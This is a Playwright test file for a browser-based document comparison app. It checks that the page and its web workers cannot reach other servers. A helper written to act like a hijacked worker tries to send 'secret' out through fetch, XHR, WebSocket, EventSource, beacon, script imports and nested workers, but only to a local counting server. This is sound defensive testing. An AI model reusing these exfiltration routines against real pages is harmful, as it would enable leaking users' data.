/**
 * Nothing leaves: neither the page nor any of its workers reaches another server, by any way there is. A server listens on
 * another port and counts what arrives; code runs in each worker as an attacker's would who took it over.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { fileURLToPath } from "node:url";
import type { Page, Worker } from "@playwright/test";
import { pdf } from "../samples/pdf.mjs";
import { choose, essays, expect, file, openSettings, pairLink, pairTable, test } from "./page.ts";

/** A server that answers everything, to everybody, and counts. */
class Elsewhere {
  arrived: string[] = [];
  readonly #server: Server = createServer((request, response) => {
    this.arrived.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end("1");
  });

  async start(): Promise<void> {
    this.#server.on("upgrade", (request, socket) => {
      this.arrived.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => this.#server.listen(0, "127.0.0.1", resolve));
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  end(): void {
    this.#server.close();
  }
}

/** Tries every way out of a thread, and says what became of each. Runs there, so it is written in one piece. */
async function tryAll({ port, patience }: { port: number; patience: number }): Promise<Record<string, string>> {
  const to = (way: string): string => `//127.0.0.1:${port}/${way}`;
  const scope = globalThis as unknown as { navigator: Navigator; importScripts?: (url: string) => void };
  const within = <T>(work: (done: (what: string) => void) => T): Promise<string> =>
    new Promise((resolve) => {
      setTimeout(() => resolve("no answer"), patience);
      work(resolve);
    });
  const attempt = async (work: () => Promise<string> | string): Promise<string> => {
    try {
      return await work();
    } catch (error) {
      return `refused: ${(error as Error).name}`;
    }
  };
  return {
    fetch: await attempt(
      async () => `status ${(await fetch(`http:${to("fetch")}`, { method: "POST", body: "secret" })).status}`,
    ),
    opaque: await attempt(
      async () => (await fetch(`http:${to("opaque")}`, { method: "POST", mode: "no-cors", body: "x" })).type,
    ),
    request: await attempt(() =>
      within((done) => {
        const request = new XMLHttpRequest();
        request.open("POST", `http:${to("request")}`);
        request.onload = () => done("sent");
        request.onerror = () => done("refused");
        request.send("secret");
      }),
    ),
    socket: await attempt(() =>
      within((done) => {
        const socket = new WebSocket(`ws:${to("socket")}`);
        socket.onopen = () => done("sent");
        socket.onerror = () => done("refused");
      }),
    ),
    events: await attempt(() =>
      within((done) => {
        const events = new EventSource(`http:${to("events")}`);
        events.onopen = () => done("sent");
        events.onerror = () => {
          events.close();
          done("refused");
        };
      }),
    ),
    beacon: await attempt(() => String(scope.navigator.sendBeacon?.(`http:${to("beacon")}`, "secret") ?? "none here")),
    module: await attempt(async () => String(await import(`http:${to("module")}`))),
    scripts: await attempt(() => String(scope.importScripts?.(`http:${to("scripts")}`) ?? "none here")),
    // A thread within the thread, which must not be freer than the one that starts it.
    inner: await attempt(() =>
      within((done) => {
        const code = `fetch("http:${to("inner")}").then(() => postMessage("sent"), () => postMessage("refused"));`;
        const inner = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
        inner.onmessage = ({ data }) => done(String(data));
        inner.onerror = () => done("refused");
      }),
    ),
    // A thread from an address of the page's own: a host that sends no headers would let it go anywhere.
    address: await attempt(() =>
      within((done) => {
        addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          if (effectiveDirective === "worker-src") done("refused");
        });
        new Worker(`${origin}/service-worker.js`);
      }),
    ),
  };
}

/** Keeps workers alive that the page has ended, for something to be tried in them. */
async function keepWorkers(page: Page): Promise<void> {
  await page.addInitScript(() => {
    Worker.prototype.terminate = () => {};
  });
}

const kindOf = (worker: Worker): string => new URL(worker.url()).hash.slice(1) || worker.url();

let elsewhere: Elsewhere;
test.beforeEach(async () => {
  elsewhere = new Elsewhere();
  await elsewhere.start();
});
test.afterEach(() => elsewhere.end());

/** Has workers of every kind started: the engine's, those that sketch, the readers, one of them with pdf.js, that of authors, and the Lab's. */
async function workersOf(page: Page, address: string): Promise<Worker[]> {
  await keepWorkers(page);
  await page.goto(`${address}?workers=2`);
  const content = "BT /F1 12 Tf 40 700 Td (A few words that a PDF holds) Tj ET";
  await choose(page, [...essays, file("paper.pdf", Buffer.from(pdf([content])))]);
  await expect(pairLink(page, "ann.txt", "bob.txt")).toBeVisible();
  await expect(page.getByText(/^4\sdocuments ·/)).toBeVisible();
  await openSettings(page);
  await page.getByLabel("Who wrote which file").selectOption("pattern");
  await page.getByRole("textbox", { name: "Author pattern" }).fill("[.](txt)");
  await expect(page.getByText(/not compared, because both files are by the same author/)).toBeVisible();
  await page.getByRole("link", { name: "How it works" }).click();
  const card = page.getByRole("region", { name: /Similarity by the length/ }).first();
  await card.getByRole("button", { name: /^Run/ }).click();
  await expect(card.getByRole("list", { name: "The papers’ claims" })).toBeVisible();
  return page.workers();
}

/** Starts the server of the built page as a host would run it that sends no headers. */
async function plainHost(): Promise<{ address: string; server: ChildProcess }> {
  const program = fileURLToPath(new URL("../../tools/serve.mjs", import.meta.url));
  const server = spawn(process.execPath, [program, "--plain", "--port", "4890"], {
    stdio: ["ignore", "ignore", "pipe"],
  });
  const address = await new Promise<string>((resolve) => {
    server.stderr.on("data", (output: Buffer) => {
      const [found] = /http:\S+/.exec(String(output)) ?? [];
      if (found) resolve(found);
    });
  });
  return { address, server };
}

test("the server that is tried would hear of every way out", async ({ page }) => {
  await page.goto(`http://127.0.0.1:${elsewhere.port}/`);
  elsewhere.arrived = [];
  // Nothing forbids the last way, so that nothing is heard of it.
  await page.evaluate(tryAll, { port: elsewhere.port, patience: 1500 });
  for (const way of ["fetch", "opaque", "request", "socket", "events", "beacon", "module", "inner"])
    expect(elsewhere.arrived.join(" "), way).toContain(`/${way}`);
});

for (const host of ["with headers", "without headers"] as const) {
  test(`neither the page nor any worker reaches another server, on a host ${host}`, async ({ page, baseURL }) => {
    const plain = host === "without headers" ? await plainHost() : null;
    try {
      const workers = await workersOf(page, plain?.address ?? baseURL ?? "");
      const kinds = workers.map(kindOf);
      // One engine in which documents meet, and those that read texts for it.
      expect(kinds.filter((kind) => kind === "engine").length).toBeGreaterThan(1);
      expect(kinds.filter((kind) => kind === "reader").length).toBeGreaterThan(0);
      expect(kinds.filter((kind) => kind === "lab").length).toBe(1);
      expect(new Set(kinds)).toEqual(new Set(["engine", "reader", "authors", "lab"]));
      for (const thread of [...workers, page]) {
        const name = "workers" in thread ? "page" : kindOf(thread);
        // Each way is refused sooner or later, on a busy machine later.
        const given = { port: elsewhere.port, patience: 30_000 };
        const outcome = await ("workers" in thread ? thread.evaluate(tryAll, given) : thread.evaluate(tryAll, given));
        for (const [way, what] of Object.entries(outcome))
          expect(what, `${way} from ${name}`).toMatch(
            way === "beacon" ? /^(none here|true|false|refused)/ : /^(refused|none here)/,
          );
      }
      expect(elsewhere.arrived).toEqual([]);
    } finally {
      plain?.server.kill();
    }
  });
}

test("the page claims that requests are blocked only where they are", async ({ page }) => {
  const banner = page.locator(".front__privacy");
  await page.goto("./");
  await expect(banner).toHaveText(
    "Your documents are read in this browser, which blocks requests from this page to other servers",
  );
  await page.route("./", async (route) => {
    const response = await route.fetch();
    const { "content-security-policy": _, ...headers } = response.headers();
    const body = (await response.text()).replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, "");
    await route.fulfill({ response, headers, body });
  });
  await page.goto("./");
  await expect(banner).toContainText("This copy of the page has no policy that blocks requests to other servers");
  // Each request is counted once, also by the next banner, with documents.
  await page.route("http://elsewhere.test/", (route) => route.fulfill({ body: "" }));
  await page.evaluate(() => fetch("http://elsewhere.test/", { mode: "no-cors" }));
  await expect(banner).toContainText("1 request to another server seen");
  await choose(page, essays);
  await expect(pairTable(page)).toBeVisible();
  await page.evaluate(() => new Promise((next) => setTimeout(next, 100)));
  await expect(banner).toContainText("1 request to another server seen");
});
